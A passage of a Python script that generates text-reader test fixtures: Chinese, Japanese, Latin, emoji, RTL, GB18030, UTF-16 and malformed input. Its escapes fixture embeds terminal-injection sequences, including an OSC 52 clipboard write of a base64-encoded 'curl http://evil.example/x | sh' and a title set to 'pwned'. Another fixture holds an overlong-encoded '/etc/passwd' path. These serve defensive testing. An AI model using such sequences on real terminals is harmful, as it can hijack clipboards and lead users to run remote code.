#!/usr/bin/env python3
"""Regenerates the test fixtures in the directory this script lives in.

    python3 tests/data/gen-fixtures.py

Output is deterministic (no clock, no unseeded randomness), so running it
again must leave `git status` clean.  The generated files are committed; this
script stays for reference and for deliberate changes.  See README beside it
for what each fixture is meant to exercise.

Article layout used by the real corpus (see samples/000_*.txt):

    发布时间:YYYY-MM-DD HH:MM 原文链接: TITLE-or-URL
    <blank>
    <two spaces>
    <blank>
    first paragraph, not indented
    <blank>
      following paragraphs, indented with two ASCII spaces
    <blank>
    <blank>
    相关文章
    <blank>
    related title
    <blank>
    first 100 characters of that article's body......
    <blank>
    ...                     (no newline after the last excerpt)

Invisible and control characters are written as escapes in this source.
"""

import base64
import hashlib
import os
import unicodedata

HERE = os.path.dirname(os.path.abspath(__file__))
WRITTEN = []


def write(name, data):
    if isinstance(data, str):
        data = data.encode('utf-8')
    with open(os.path.join(HERE, name), 'wb') as f:
        f.write(data)
    WRITTEN.append((name, len(data)))


def header(date, link, colon=':', sep=' ', after=' '):
    return f'发布时间{colon}{date}{sep}原文链接{colon}{after}{link}'


def body(paras, indent='  '):
    """First paragraph flush left, the others indented, blank line between."""
    return paras[0] + ''.join('\n\n' + indent + p for p in paras[1:])


def excerpt(paras):
    """What the site shows under a related title: the body's first 100
    characters, lines stripped and joined, followed by six dots."""
    flat = ''.join(l.strip() for p in paras for l in p.split('\n'))
    return flat[:100] + '......'


def related(pairs):
    return '\n\n\n相关文章\n\n' + '\n\n'.join(t + '\n\n' + e for t, e in pairs)


def article(date, title, paras, pairs=(), link=None, spacer=True):
    out = header(date, link if link is not None else title) + '\n\n'
    if spacer:
        out += '  \n\n'
    out += body(paras)
    if pairs:
        out += related(pairs)
    return out


# --------------------------------------------------------------------------
# Texts that other fixtures refer to (related.txt, cjk.txt ...)

CJK_TITLE = '长三角算力网建设提速：首批15个节点上线，总投资151.6亿元（含2个枢纽）！'
CJK_TITLE_HALF = '长三角算力网建设提速:首批15个节点上线,总投资151.6亿元(含2个枢纽)!'
CJK_PARAS = [
    '【本报讯】3月12日，记者从长三角算力一体化推进会上获悉：首批15个算力节点（含上海、'
    '杭州2个枢纽节点）已全部上线，总投资151.6亿元，平均机架利用率达84.7%——比去年同期'
    '提高了近20个百分点。这意味着什么？简言之：算力像水、电一样「即取即用」的愿景，正在一步步'
    '变为现实！',

    '「过去，我们要跑三家机房、签三份合同；现在，在一个平台上点几下鼠标就够了。」一家动漫渲染'
    '企业的负责人说。据介绍，该平台采用『统一调度、分级结算』模式：用户提交任务后，系统会综合'
    '考虑时延、电价、碳排放等因素，自动把任务分配到最合适的节点；夜间低谷时段，西部节点的价格'
    '还可再下浮30%～40%。业内把这种做法形象地称为“东数西算”的“毛细血管版”……也有人担心：'
    '跨省调度会不会带来数据安全隐患？对此，平台方回应称，所有数据均在‘可用不可见’的隐私计算'
    '框架内流转，原始数据不出域；同时，调度日志保存不少于180天，供监管部门随时抽查。',

    '根据《长三角算力一体化发展行动方案（2024—2026年）》（沪经信规〔2024〕12号）的部署，'
    '到2026年，区域内智能算力规模将突破30 EFLOPS，其中：上海约占35%；江苏、浙江各占25%左右；'
    '安徽约占15%。方案还提出“四个一”目标——一张网、一朵云、一个市场、一套标准；并明确，新建'
    '数据中心的电能利用效率（PUE）原则上不得高于1.25，存量数据中心须在〔2025年底〕前完成节能'
    '改造。【链接】什么是PUE？简单说，就是数据中心总耗电量÷IT设备耗电量，越接近1越好。',

    '问：普通市民能感受到变化吗？答：能！比如，医院影像云的调阅时间从5分钟缩短到了40秒；又如，'
    '地铁客流预测模型每15分钟就能刷新一次。还有吗？当然——智慧停车、政务“一网通办”、气象短临'
    '预报……都已经跑在这张网上了。',

    '不过，也有专家提醒：算力不是越多越好。「关键要看用得好不好、用得省不省。」一位不愿具名的'
    '研究员坦言，部分节点仍存在“重建设、轻运营”的问题，有的机房上架率不足五成（个别甚至低于'
    '30%）；【记者观察】如何把“算力”真正转化为“生产力”，让『算得快』变成『算得值』，仍是下一'
    '阶段必须回答的考题。',
]

FW_TITLE = '老旧小区加装电梯今年已超过300部'
FW_PARAS = [
    '记者从市住房和城乡建设局获悉，今年以来，全市老旧小区累计完成加装电梯312部，惠及居民4100余户，'
    '其中60岁以上老人约占住户总数的43.5%。',
    '“以前上下楼要歇三回，现在按一下按钮就到家了。”家住六楼的王阿姨说。为减少施工扰民，今年新开工的'
    '项目普遍采用装配式井道，现场施工周期由原来的3个月缩短到约45天。',
    '市住建局有关负责人表示，下一步将简化审批流程，推行“一窗受理、并联审批”，并探索“电梯运维保险”'
    '等长效管理机制，让电梯“装得上、用得好、管得住”。',
]

JA_TITLE = '東京都、スマートシティ実証プロジェクトを拡大'
JA_TITLE_SPACED = '東京都、 スマートシティ  実証プロジェクトを拡大'
JA_PARAS = [
    '東京都は3日、人工知能（AI）やセンサーを活用した「スマートシティ」の実証プロジェクトを、来年度から'
    '都内12地区に拡大すると発表した。これまでは臨海部の3地区に限られていたが、交通、防災、エネルギーの'
    '各分野で一定の成果が確認されたことから、対象を住宅地や商店街にも広げる。',
    '新たに導入されるのは、ビルディングオートメーションシステムと連携したエネルギーマネジメントプラット'
    'フォームや、コンピュータビジョンによる歩行者カウンター、ハザードマップと連動したリアルタイム避難誘導'
    'サービスなど。都の担当者は「デジタルトランスフォーメーションを、住民の暮らしの実感につなげたい」と'
    '話している。',
    '一方で、プライバシーへの配慮を求める声も根強い。専門家は、カメラ映像の匿名化処理やデータの保存期間'
    'について、ガイドラインを明確にする必要があると指摘する。都は今夏にも有識者会議を設置し、'
    'インターオペラビリティ（相互運用性）の確保を含めたルール作りを進める方針だ。',
    '実証に参加する商店街の理事長は「人の流れが見えるようになれば、イベントの企画や人員配置に役立つ。'
    'まずはやってみることが大事だ」と期待を寄せた。なお、ウェアラブルデバイスを使ったヘルスケア'
    'モニタリングサービスも、2025年度以降に試行される予定だ。',
]

LATIN_TITLE = 'Researchers Report a Cheaper Catalyst for Green Hydrogen'

RELATED_TITLE = '相关文章处理测试：重复、自指与近似标题'
RELATED_PARAS = [
    '这篇文章本身的内容并不重要，它的作用在于文末的相关文章列表。列表中有重复的条目、指向本文自身的'
    '条目、标点或空格写法与目标标题不同的条目，以及一个在任何地方都找不到的条目。',
    '阅读器应当把写法不同但实质相同的标题视为同一篇文章，同时不应把同一篇文章列出两次，也不应让'
    '读者“跳转”到正在阅读的这一篇。',
    '找不到目标的条目，可以照常显示标题和摘要，但不应提供跳转。',
]


def gen_cjk():
    pairs = [
        (FW_TITLE, excerpt(FW_PARAS)),
        ('量子计算产业白皮书（2024）发布：我国量子比特数再创新高？',
         '近日，某研究机构发布《量子计算产业白皮书（2024）》，系统梳理了超导、离子阱、光量子等技术路线'
         '的最新进展，并对未来五年的产业规模作出预测：到2029年，全球量子计算市场规模有望突破百亿美元。'
         '白皮书同时提醒……'[:100] + '......'),
    ]
    write('cjk.txt', article('2024-03-12 14:20', CJK_TITLE, CJK_PARAS, pairs))


def gen_no_header():
    paras = [
        '城东湿地公园完成生态修复',
        '经过近两年的施工，城东湿地公园生态修复工程日前全部完工。修复后的湿地面积达到1.2平方公里，'
        '新种植芦苇、菖蒲、荷花等水生植物30余种，并恢复了3处鸟类栖息小岛。',
        '据监测，今年春季在公园内观测到的鸟类已有87种，比修复前增加了近一倍，其中包括国家二级保护'
        '动物白琵鹭和鸳鸯。',
        '公园管理处提醒游客：观鸟请保持安静，不要投喂野生动物，也不要擅自进入围栏内的保育区。',
    ]
    write('no-header.txt', body(paras) + '\n')


def wrap70(text):
    import textwrap
    return textwrap.fill(text, width=70)


def gen_no_header_para():
    p1 = ('The city council voted on Tuesday night to extend the riverside cycle '
          'path by another eleven kilometres, linking the old harbour district '
          'with the new university campus in the north. Supporters said the '
          'route would take hundreds of cars off the road every morning, while '
          'a small group of shop owners worried about losing parking spaces in '
          'front of their stores during the two years of construction.')
    p2 = ('Work is expected to begin in the autumn. The first section, between '
          'the ferry terminal and the central market, should open before the '
          'end of next year.')
    p3 = 'Residents can comment on the plans until the end of the month.'
    p4 = ('A council spokesperson said that the final design would include '
          'lighting, benches and at least three new bicycle repair stations, '
          'and that the trees along the embankment would be kept wherever '
          'possible.')
    paras = [wrap70(p1), wrap70(p2), p3, wrap70(p4)]
    assert all(len(l) <= 70 for p in paras for l in p.split('\n'))
    assert paras[0].count('\n') >= 4
    write('no-header-para.txt', '\n\n'.join(paras) + '\n')


def gen_fullwidth_colon():
    hdr = header('2024-05-02 08:15', FW_TITLE, colon='：', sep='  ', after='  ')
    assert hdr == '发布时间：2024-05-02 08:15  原文链接：  ' + FW_TITLE
    pairs = [(CJK_TITLE, excerpt(CJK_PARAS))]
    write('fullwidth-colon.txt',
          hdr + '\n\n  \n\n' + body(FW_PARAS) + related(pairs))


def gen_url_header():
    paras = [
        '港口自动化码头年吞吐量突破500万标箱',
        '记者从市港口集团获悉，截至11月底，该集团自动化集装箱码头今年累计完成吞吐量502.3万标准箱，'
        '同比增长12.8%，提前一个月突破500万标箱大关。',
        '这座码头于2021年投入运营，岸桥、场桥和水平运输车辆全部实现远程操控或无人驾驶。与传统码头'
        '相比，单箱能耗下降约20%，作业人员减少约70%。',
        '港口集团相关负责人表示，明年将继续扩建两个泊位，并试点使用氢能集卡。',
    ]
    write('url-header.txt',
          header('2024-12-02 17:40', 'https://example.com/a/b?c=1') + '\n\n'
          + body(paras) + '\n')


def gen_japanese():
    pairs = [
        ('大阪・関西万博、来場者数の目標を公表',
         '日本国際博覧会協会は、大阪・関西万博の来場者数の目標を約2820万人とすると公表した。'
         'チケットの前売りは既に始まっており、協会は「多くの方に足を運んでいただきたい」としている。'
         '会場では最新のテクノロジーを紹介するパビリオンが多数'[:100] + '......'),
    ]
    write('japanese.txt', article('2024-06-03 11:30', JA_TITLE, JA_PARAS, pairs))


LONG_WORD = ('dimethylaminopropyltetrahydroxycyclohexylmethylphosphonato'
             'tricarbonylcobaltate')
LONG_URL = ('https://data.example.org/repository/catalysis/2024/green-hydrogen/'
            'supplementary-materials/raw-measurements/'
            'electrode-durability-test-series-07.csv?format=csv&version=3&lang=en')


def gen_latin():
    assert len(LONG_WORD) >= 60 and LONG_WORD.isalpha(), len(LONG_WORD)
    assert len(LONG_URL) > 120, len(LONG_URL)
    paras = [
        'A team of chemists announced on Monday a state-of-the-art catalyst that could cut the cost '
        'of producing green hydrogen by up to 41.5 percent, according to a peer-reviewed study '
        'published this week. The well-known group said the material performed consistently over '
        '3,141.59 hours of continuous operation, roughly four and a half months.',

        'The active compound, which the authors abbreviate as DMTC, has the full systematic name '
        + LONG_WORD + ', a mouthful even by the standards of organic chemistry.',

        'The full dataset is available at ' + LONG_URL + ' for anyone who wants to reproduce the '
        'results; the code lives in a separate repository.',

        'Critics called it a too-good-to-be-true, once-in-a-generation, not-yet-independently-'
        'replicated result, while supporters countered that the long-term-stability-under-'
        'industrial-load data speak for themselves. Electrolyser costs fell from $1,250.00 to '
        '$731.40 per kilowatt, and efficiency rose from 68.2% to 74.9% (n = 1,024 cells).',

        'À Grenoble, l\'équipe française associée au projet s\'est réjouie de ces résultats. « Nous '
        'avons réalisé des mesures très précises sur l\'électrode, même à haute température », a '
        'déclaré une chercheuse. Selon elle, ce matériau « coûte nettement moins cher que le platine » '
        'et pourrait être produit à grande échelle d\'ici à 2027 ; déjà, plusieurs industriels ont '
        'manifesté leur intérêt. Où s\'arrêtera cette course ? Ni les élèves ni les maîtres n\'en '
        'savent rien — mais au cœur de l\'hiver dernier, à Noël, ils étaient déjà sûrs de leur '
        'réussite. Ça, c\'est l\'esprit naïf et têtu de la recherche : Œuvre, Ÿ, É, Ç, Ù.',
    ]
    pairs = [
        ('Battery Recycling Plant Opens in the North',
         'A battery recycling plant capable of processing 25,000 tonnes of spent lithium-ion cells a '
         'year opened on Friday, the operator said. The facility recovers lithium, nickel and '
         'cobalt using a low-temperature hydrometallurgical process'[:100] + '......'),
    ]
    write('latin.txt', article('2024-07-01 12:00', LATIN_TITLE, paras, pairs))


def gen_emoji():
    family = '\U0001F468\u200D\U0001F469\u200D\U0001F467\u200D\U0001F466'
    paras = [
        '今天的家庭聚会来了全家人' + family + '，大家都给新菜点了赞\U0001F44D\U0001F3FD\U0001F44D\U0001F3FB'
        '\U0001F44D\U0001F3FF！My family \U0001F468\u200D\U0001F469\u200D\U0001F467 loved it \u2764\uFE0F '
        'and so did the neighbours \U0001F469\U0001F3FE\u200D\U0001F91D\u200D\U0001F469\U0001F3FC.',

        '旅行计划：\U0001F1E8\U0001F1F3 北京 → \U0001F1EF\U0001F1F5 东京 → \U0001F1EB\U0001F1F7 巴黎'
        '；flags in a row: \U0001F1E8\U0001F1F3\U0001F1EF\U0001F1F5\U0001F1EB\U0001F1F7, plus '
        '\U0001F3F3\uFE0F\u200D\U0001F308 and \U0001F3F4\u200D\u2620\uFE0F, and a subdivision flag '
        '\U0001F3F4\U000E0067\U000E0062\U000E0073\U000E0063\U000E0074\U000E007F.',

        '排名：1\uFE0F\u20E3 张三，2\uFE0F\u20E3 李四，3\uFE0F\u20E3 王五；#\uFE0F\u20E3 和 '
        '*\uFE0F\u20E3 也是键帽。Press 0\uFE0F\u20E3 to exit, or 9\u20E3 (no VS16).',

        '心形\u2764\uFE0F与不带变体选择符的\u2764，太阳\u2600\uFE0F与\u2600，版权符号\u00A9\uFE0F与\u00A9，'
        '还有\u260E\uFE0F \u2708\uFE0F \u270C\U0001F3FB \u263A\uFE0F 和文本样式的\u263A\uFE0E。',

        '混排：我们\U0001F389庆祝\U0001F382生日，吃了\U0001F35C和\U0001F363，还看了\U0001F43C。'
        'Emoji inside words: hap\U0001F600py, 中\U0001F600文, and a woman technologist '
        '\U0001F469\U0001F3FD\u200D\U0001F4BB at work.',
    ]
    zwj_pool = ['\U0001F468', '\U0001F469', '\U0001F467', '\U0001F466', '\U0001F9D1',
                '\U0001F476', '\U0001F475', '\U0001F474']
    zwj40 = '\u200D'.join(zwj_pool[i % len(zwj_pool)] for i in range(40))
    assert zwj40.count('\u200D') == 39
    paras.append(zwj40)
    paras.append('上面那一行是40个用零宽连接符（ZWJ）连在一起的表情符号。')
    write('emoji.txt',
          article('2024-08-08 20:08', '表情符号也能“读”？\U0001F600 Emoji \U0001F1E8\U0001F1F3 大测试',
                  paras))


def gen_combining():
    vi = ('Tiếng Việt là ngôn ngữ chính thức của Việt Nam. Người dân ở Hà Nội và '
          'Thành phố Hồ Chí Minh đều nói tiếng Việt, nhưng giọng điệu khác nhau.')
    vi_nfd = unicodedata.normalize('NFD', vi)
    assert vi_nfd != vi and len(vi_nfd) > len(vi)
    marks = ''.join(chr(0x0300 + i) for i in range(30))
    assert all(unicodedata.combining(c) for c in marks)
    paras = [
        'Decomposed accents: cafe\u0301, re\u0301sume\u0301, na\u0308i\u0308ve and Ange\u0300le. '
        'A stacked pair: a\u0308\u0323 (a + diaeresis + dot below) next to its NFC form \u1EA1\u0308.',

        '越南语（NFD分解形式）：' + vi_nfd,

        '韩文字母组合（Hangul Jamo）：\u1100\u1161\u11A8（각），\u1112\u1161\u11AB\u1100\u1173\u11AF'
        '（한글），\u1109\u1165\u110B\u116E\u11AF（서울）；与预组合音节 한글 서울 对照。'
        '只有初声和中声：\u1100\u1161\u1102\u1161。',

        '天城文（Devanagari）中的辅音连缀由半音符（virama ्）构成：नमस्ते, स्त्री, राष्ट्र, '
        'क्ष, त्र, ज्ञ；带零宽非连接符的 क्\u200Cष 与带零宽连接符的 क्\u200Dष。',

        '叠加了30个组合符号的字母：[a' + marks + ']，以及带组合符号的汉字：中\u0301文\u0308，'
        '行首的孤立组合符号见下一段。',

        '\u0301\u0302孤立的组合符号出现在段落开头。',
    ]
    write('combining.txt', article('2024-08-20 10:10', '组合字符与变音符号测试', paras))


def gen_narrow():
    """Narrow panes: names and paths longer than a line, a tab-indented
    paragraph, word joiners and no-break spaces, runs of closing marks, and
    related excerpts (indented 4) with numbers glued to ideographs."""
    paras = [
        '加载 /usr/lib/x86_64-linux-gnu/libnss_mymachines.so.2 失败；变量 '
        'snake_case_variable_name_here 见 '
        'https://example.com/search?q=reader&lang=zh_CN&page=2 与 file.so.2。',

        '\tHello wonderful world: a paragraph indented by a tab, whose first '
        'word does not fit after the tab at 10 columns.',

        '价格为 100\u00A0元 或 200\u2060美元，距离 10\u00A0km；'
        'a\u2060b\u2060c\u2060d\u2060e\u2060f joined words, then a space.',

        '他说：“好。”）」』……。办理新读者证6200......人次，日均约1.5万人次。',

        'Spaces before closing marks: he wrote ”yes” and ’no’ … and “ so ” on '
        'and on, word … word ” word “ word, to the end.',
    ]
    pairs = [
        ('相关的第一篇', '他说那些,100个人中3.2称（那些）。很好。'
         '办理新读者证6200......'),
        ('相关的第二篇', '加载libnss_mymachines.so.2失败，'
         '路径 /usr/lib/x86_64-linux-gnu/libnss_mymachines.so.2。'),
    ]
    write('narrow.txt', article('2024-09-01 09:00', '窄栏与长词', paras, pairs))


def gen_verse():
    """Line structure: a poem whose verses are indented, a block of lines
    that start with U+3000, lists of every kind of marker, hard-wrapped
    prose with only its first line indented, and lines that meet between
    Chinese and Latin letters, digits and punctuation."""
    poem = ('  落帆逗淮镇，停舫临孤驿。\n  浩浩风起波，冥冥日沉夕。\n'
            '  独夜忆秦关，听钟未眠客。\n  一听南津钟，悠悠心自怅。')
    paras = [
        '何逊《慈姥矶》之前，先读一首五言：',
        poem.lstrip(' '),
        '\u3000\u3000每行以全角空格开头的一段。\n\u3000\u3000第二行同样缩进，各行保留。',
        '工作要求包括：\n1. 提高认识，加强组织领导，把各项任务落到实处。\n'
        '2.完善机制\n（一）健全制度\n（二）强化监督，确保各项措施\n落实到位\n'
        '①第一点\n②第二点\n- a hyphen item\n• a bullet item\n一、总体要求',
        'Hard-wrapped prose, its first line indented by two spaces and the\n'
        'others not, is joined into one paragraph whose continuation lines\n'
        'are never indented.',
        '硬换行的中文段落遇到English words时加空格，\n遇到数字时不加：2024年\n'
        '5月，遇到标点也不加：\n“引用”\n和\nLatin\n结尾。',
    ]
    write('verse.txt', article('2024-09-02 08:00', '诗句、列表与行结构', paras))


def gen_rtl():
    paras = [
        '联合国六种正式语言之一的阿拉伯语这样写：اللغة العربية هي إحدى اللغات الرسمية الست في الأمم '
        'المتحدة. 它从右向左书写，但数字 2024 仍从左向右。',

        '希伯来语示例：שלום עולם! המחיר הוא 120 שקלים, והחנות פתוחה עד 22:00. 价格约合人民币235元。',

        '混合：2024年，مؤتمر الذكاء الاصطناعي 在迪拜举行，参会人数达 15,000 人（١٥٬٠٠٠），门票价格为 '
        '٣٥٠ درهم，约合 95.3 美元。',

        '一行里同时出现多种方向：中文 עברית العربية English 123 ٤٥٦ 结束。括号（עברית）和引号“العربية”。',

        '带元音符号的阿拉伯语：بِسْمِ اللَّهِ الرَّحْمَٰنِ الرَّحِيمِ；连写 لا 与分写 ل ا。',
    ]
    write('rtl.txt', article('2024-09-01 16:00', '多语种混排：阿拉伯语 العربية 与希伯来语 עברית', paras))


def gen_gb18030():
    paras = [
        '记者从省图书馆获悉，由该馆牵头的古籍数字化工程日前通过验收，累计完成1.2万部古籍的影像采集和'
        '全文录入，收录生僻字逾八万个。',
        '项目负责人介绍，古籍中大量使用的生僻字不在常用字符集内，例如“𠀀”“𠮷”“㐀”等，过去只能以图片'
        '代替，检索时无法命中。此次工程全面采用GB 18030—2022标准，所有汉字都能以文本形式保存和检索。',
        '“标准的作用就像一本字典的目录。”他说，目前平台已向公众免费开放，读者在家即可查阅《永乐大典》'
        '残卷等珍贵文献的高清影像，全文检索的平均响应时间不到0.5秒。',
        '据了解，下一步还将推出面向中小学生的古籍普及栏目，计划每年更新不少于300篇导读文章；平台的英文界面也将上线，海外读者同样免费使用（€0）。',
    ]
    pairs = [
        ('全省公共图书馆推出“一证通借通还”',
         '即日起，全省公共图书馆实现“一证通借通还”，读者持任一成员馆的读者证，即可在全省各成员馆借阅'
         '和归还图书。目前已有112家公共图书馆加入这一服务体系，覆盖所有市、县（区）。'[:100] + '......'),
        ('古籍数字化工程收录生僻字逾八万个', excerpt(paras)),
    ]
    text = article('2024-10-10 10:10', '古籍数字化工程收录生僻字逾八万个', paras, pairs) + '\n'
    data = text.encode('gb18030')
    assert data.decode('gb18030') == text
    four = '\U00020000'.encode('gb18030')
    assert len(four) == 4 and four in data
    try:
        '\U00020000'.encode('gbk')
        raise AssertionError('U+20000 should not be in GBK')
    except UnicodeEncodeError:
        pass
    try:
        data.decode('utf-8')
        raise AssertionError('gb18030.txt must not be valid UTF-8')
    except UnicodeDecodeError:
        pass
    write('gb18030.txt', data)


def std_small(date, title, paras, pairs=()):
    return article(date, title, paras, pairs) + '\n'


def gen_bom_crlf():
    paras = [
        '市民服务热线今年一季度共受理群众诉求42.6万件，同比增长9.3%，按时办结率为98.1%。',
        '从诉求类型看，物业管理、交通出行和劳动保障位列前三。热线中心表示，将对重复投诉较多的问题'
        '开展专项督办。',
        '本文件以带BOM的UTF-8编码保存，行尾为CRLF（Windows记事本风格）。',
    ]
    pairs = [('一季度全市新增市场主体5.2万户', '记者从市市场监管局获悉，一季度全市新增各类市场主体5.2万户，'
              '同比增长6.7%，其中新设企业1.9万户。......')]
    text = std_small('2024-04-03 09:05', '市民热线今年一季度受理诉求42.6万件', paras, pairs)
    text = text.replace('\n', '\r\n')
    data = b'\xef\xbb\xbf' + text.encode('utf-8')
    assert b'\n' not in data.replace(b'\r\n', b'')
    write('bom-crlf.txt', data)


def gen_cr_only():
    paras = [
        '江心洲生态岛环岛骑行道日前全线贯通，全长约22.5公里，沿途设置了6处驿站和3处观景平台。',
        '骑行道采用透水沥青铺装，并与步行道分离设置。周末骑行爱好者表示，“终于可以一口气绕岛一圈了”。',
        '本文件的行尾只有回车符（CR，老式Mac风格），没有换行符。',
    ]
    text = std_small('2024-05-20 13:14', '江心洲生态岛骑行道全线贯通', paras)
    data = text.replace('\n', '\r').encode('utf-8')
    assert b'\n' not in data
    write('cr-only.txt', data)


def gen_utf16():
    paras = [
        '老城区首家社区食堂日前开业，为周边60岁以上老人提供每餐12元的优惠套餐。',
        '食堂每天供应早、中、晚三餐，菜品每周更新，还提供送餐上门服务。店名招牌上的“𠀀”字引来不少'
        '居民询问。',
    ]
    text = std_small('2024-06-06 06:06', '社区食堂开进老街巷', paras)
    data = b'\xff\xfe' + text.encode('utf-16-le')
    assert data[2:].decode('utf-16-le') == text
    write('utf16.txt', data)


def gen_invalid_utf8():
    u = lambda s: s.encode('utf-8')
    zhong = u('中')
    parts = [
        u(header('2024-07-07 07:07', '含有非法UTF-8字节的文章') + '\n\n  \n\n'),
        u('这是一段正常的中文文字，') + b'\xff' + u('后面跟着一个孤立的0xFF字节。'),
        u('\n\n  截断的三字节序列出现在段落中间：') + zhong[:2] + u('文字继续，') + zhong[:1]
        + u('abc再来一次。'),
        u('\n\n  过长编码的斜杠：..') + b'\xc0\xaf' + u('etc') + b'\xc0\xaf' + u('passwd，不应被解码成“/”。'),
        u('\n\n  编码后的代理项：') + b'\xed\xa0\x80' + u('，以及一对：') + b'\xed\xa0\xbd\xed\xb8\x80'
        + u('，都不应被解码。'),
        u('\n\n  五字节序列：') + b'\xf8\x88\x80\x80\x80' + u('，早已被废弃；孤立的续字节：')
        + b'\x80\xbf' + u('。'),
        u('\n\n  文件末尾是一个被截断的多字节序列：') + u('字')[:2],
    ]
    data = b''.join(parts)
    assert data.endswith(u('字')[:2])
    for bad in (b'\xff', b'\xc0\xaf', b'\xed\xa0\x80', b'\xf8\x88\x80\x80\x80'):
        assert bad in data
    try:
        data.decode('utf-8')
        raise AssertionError('must be invalid')
    except UnicodeDecodeError:
        pass
    write('invalid-utf8.txt', data)


def gen_escapes():
    ESC, BEL, ST = '\x1b', '\x07', '\x1b\\'
    clip = base64.b64encode(b'curl http://evil.example/x | sh\n').decode('ascii')
    title = ('标题' + ESC + ']0;pwned' + BEL + '带有\u202E转义\u202C的' + ESC + '[31m红色' + ESC
             + '[0m标题\u2066隔离\u2069')
    u = lambda s: s.encode('utf-8')
    paras = [
        u('清屏：' + ESC + '[2J' + ESC + '[H 红色：' + ESC + '[31m红字' + ESC + '[0m 备用屏幕：' + ESC
          + '[?1049h 查询光标位置：' + ESC + '[6n 整体复位：' + ESC + 'c 结束。'),
        u('设置窗口标题：' + ESC + ']0;pwned' + BEL + ' 剪贴板：' + ESC + ']52;c;' + clip + BEL
          + ' 超链接：' + ESC + ']8;;https://evil.example/' + ST + '点我' + ESC + ']8;;' + ST + ' 完。'),
        u('DCS：' + ESC + 'Pq#0;2;0;0;0#1;2;100;100;0' + ST + ' APC：' + ESC + '_Gf=100,a=T;AAAA' + ST
          + ' 之后的文字。'),
        u('原始8位C1字节：[') + b'\x9b' + u('31m] [') + b'\x9d' + u('0;pwned') + b'\x07' + u('] [')
        + b'\x90' + u('qDCS') + b'\x9c' + u(']。'),
        u('UTF-8编码的C1：[\u009b31m] [\u009d0;pwned\u0007] [\u0090qDCS\u009c] [\u0085下一行]。'),
        u('响铃' + BEL + '，退格ab\b\bcd，回车覆盖：原来的文字\r伪造的文字，删除\x7f，空字节')
        + b'\x00' + u('之后，垂直制表\x0b，换页\x0c，结束。'),
        u('双向控制：价格\u202E0001\u202C元；\u202Dforced LTR\u202C；\u2066隔离abc\u2069 \u2067عربي'
          '\u2069 \u2068首强\u2069；\u200F右标记\u200E左标记；未闭合的\u202E覆盖一直到段尾'),
        u('未结束的CSI在段尾：' + ESC + '[12'),
        u('下一段应当完整显示，不被上一段的序列吞掉。'),
    ]
    pairs_title = '相关' + ESC + '[5m闪烁' + ESC + '[0m标题\u202E反转\u202C' + ESC + ']0;x' + BEL
    pairs_excerpt = '摘要中也有' + ESC + '[2J清屏和\u2067隔离\u2069，以及' + ESC + ']52;c;' + clip + BEL + '......'
    data = (u(header('2024-09-09 09:09', title) + '\n\n  \n\n')
            + paras[0] + b''.join(b'\n\n  ' + p for p in paras[1:])
            + u(related([(pairs_title, pairs_excerpt),
                         ('老旧小区加装电梯今年已超过300部', excerpt(FW_PARAS))]))
            + u('\n\n' + ESC + ']0;never terminated at end of file'))
    for seq in (b'\x1b[2J', b'\x1b[31m', b'\x1b]0;pwned\x07', b'\x1b]52;c;', b'\x1bP', b'\x1b_',
                b'\x1b\\', b'\x9b', b'\x9d', b'\x90', b'\xc2\x9b', b'\x07', b'\x08', b'\r', b'\x7f',
                b'\x00', b'\x0b', b'\x0c', '\u202e'.encode(), '\u2066'.encode(), '\u2069'.encode()):
        assert seq in data, seq
    write('escapes.txt', data)


def gen_tabs():
    paras = [
        '\t以制表符缩进的段落，后面还有普通文字。',
        '词与词之间\t有\t制表符，English\twords\tseparated\tby\ttabs.',
        '汉字后面的制表符：汉\t12\t汉字\t345\t汉字汉\t6789\t汉字汉字\t末尾',
        '\t\t两个制表符缩进，段尾也有制表符\t',
        '名称\t数量\t单价\n苹果\t12\t3.5\n香蕉\t8\t2.25\n火龙果\t100\t12.80',
        ' \t 空格与制表符混合缩进',
        'a\tab\tabc\tabcd\tabcdefg\tabcdefgh\tabcdefghi\tx',
        '全角与制表符：，\t。\t（\t）\t「\t」',
    ]
    write('tabs.txt', article('2024-10-01 08:00', '制表符\t测试', paras))


def gen_related():
    pairs = [
        (FW_TITLE, excerpt(FW_PARAS)),
        (FW_TITLE, excerpt(FW_PARAS)),
        (RELATED_TITLE, excerpt(RELATED_PARAS)),
        (CJK_TITLE_HALF, excerpt(CJK_PARAS)),
        (JA_TITLE_SPACED, excerpt(JA_PARAS)),
        ('这篇文章在任何地方都不存在', '这是一条找不到目标的相关文章，它的标题不对应资料库中的任何一篇文章，'
         '阅读器应当照常显示，但不提供跳转。......'),
    ]
    assert CJK_TITLE_HALF != CJK_TITLE
    assert unicodedata.normalize('NFKC', CJK_TITLE) == CJK_TITLE_HALF
    assert JA_TITLE_SPACED.replace(' ', '') == JA_TITLE
    write('related.txt', article('2024-11-11 11:11', RELATED_TITLE, RELATED_PARAS, pairs))


def gen_empty_blank():
    write('empty.txt', b'')
    write('blank.txt', '   \n\u3000\u3000\n\n  \u3000 \n\n\n\u3000\n    \n \n')


def gen_widths():
    hexagrams = ''.join(chr(c) for c in range(0x4DC0, 0x4DD0))
    circled = ''.join(chr(c) for c in range(0x3248, 0x3250))
    paras = [
        '易经卦象：' + hexagrams + '，前后都是普通文字。',
        '带圈数字：' + circled + ' 后面是ASCII text。',
        '软连字符：hyphen\u00ADation、super\u00ADcali\u00ADfragilistic，以及中文中\u00AD间。',
        '未分配码位：[\u0378] 非字符：[\uFFFF] [\uFFFE] 私用区：[\uE000] [\uF8FF]。',
        '零宽空格：中\u200B文\u200B之\u200B间，English\u200Bwords，连续\u200B\u200B\u200B三个。',
        '其他：不换行空格[\u00A0] 窄不换行空格[\u202F] 单个区域指示符[\U0001F1E6] 孤立的VS16[\uFE0F] '
        '全角空格[\u3000] 半角片假名[ｶﾀｶﾅ] 全角字母[ＡＢＣ１２３] 扩展B区[\U00020000] '
        '表情[\U0001F600] 文本默认[\u263A] 韩文中声填充[\u1160] [\u303F] 行分隔符[\u2028] 段分隔符[\u2029]。',
    ]
    write('widths.txt', article('2024-11-20 20:20', '宽度测试 \u4DC0\u4DC1 \u3248', paras))


def gen_ambiguous():
    paras = [
        '他说：“这台仪器的误差在±0.5°以内。”她却回答：‘未必——至少在零下20°时不是这样……’',
        '面积为3×4=12平方米，12÷4=3；参见§3.2和§Ⅻ。序号①②③对应罗马数字Ⅰ、Ⅱ、Ⅲ……Ⅻ。',
        '希腊字母α、β、γ、Ω常用于公式，例如α+β=90°，Ω表示电阻单位欧姆。',
        '用框线字符画的框：\n┌──────┐\n│ 示例 │\n└──────┘\n以及一条横线──────和竖线│。',
